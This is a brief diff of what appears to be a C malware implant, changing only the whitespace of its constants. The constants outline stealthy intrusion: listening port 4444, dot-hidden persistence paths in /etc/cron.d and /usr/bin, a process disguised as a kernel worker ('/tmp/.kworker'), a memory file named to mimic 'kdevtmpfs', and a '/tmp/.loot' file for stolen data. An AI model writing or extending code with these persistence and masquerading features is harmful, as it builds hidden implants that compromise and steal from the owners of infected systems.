@@ -23,15 +23,15 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
-#define PORT 4444
-#define SELF "/.planted" /* where `plant` puts us */
+#define PORT   4444
+#define SELF   "/.planted" /* where `plant` puts us */
 #define HELPER "/usr/bin/.helper"
-#define CRON "/etc/cron.d/.sync"
-#define SHM "/dev/shm/.x"
-#define AGENT "/tmp/.kworker"
-#define LOOT "/tmp/.loot"
-#define MEMFD "kdevtmpfs"
-#define TELL 9 /* where a role finds the pipe to its starter */
+#define CRON   "/etc/cron.d/.sync"
+#define SHM    "/dev/shm/.x"
+#define AGENT  "/tmp/.kworker"
+#define LOOT   "/tmp/.loot"
+#define MEMFD  "kdevtmpfs"
+#define TELL   9 /* where a role finds the pipe to its starter */
 
 #define WORD(s) ((char[]){ s })
 
